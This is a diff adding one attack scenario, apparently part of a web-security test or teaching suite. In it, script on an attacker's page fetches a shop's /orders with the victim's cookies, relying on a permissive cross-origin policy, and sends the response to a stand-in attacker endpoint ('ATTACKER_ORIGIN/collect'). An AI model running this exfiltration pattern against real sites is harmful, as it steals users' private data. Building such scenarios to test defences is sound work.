@@ -1,0 +1,26 @@
+/** Script of another site’s page asks for the orders with the victim’s cookies, and reads the answer where the shop lets any origin. Not: a change (csrf-fetch.ts). */
+import { document } from '#sources/sources';
+import { ORIGIN } from '../origins';
+import { ATTACKER_ORIGIN } from '../origins';
+import type { AttackUnit } from '../attack';
+
+const attack: AttackUnit = {
+  order: 23,
+  group: 'requests from elsewhere',
+  label: 'Reading across origins',
+  says: 'Script on a page of the attacker’s asks the shop for the victim’s orders, cookies included, and sends home what it may read of the answer.',
+  grants: ['a page that the victim opens'],
+  sources: [document('fetch', 'section 3.3')],
+  scene: ['log-in', 'read-orders'],
+  presupposes: { crossSite: 'yes', defences: ['secure'] },
+  play: async (hands) => {
+    const page = await hands.ownPage();
+    const { status, content } = await page.send('GET', `${ORIGIN}/orders`, [], undefined, {
+      credentials: 'include',
+    });
+    if (status === 200)
+      await page.send('POST', `${ATTACKER_ORIGIN}/collect`, [], content, { mode: 'no-cors' });
+  },
+};
+
+export default attack;
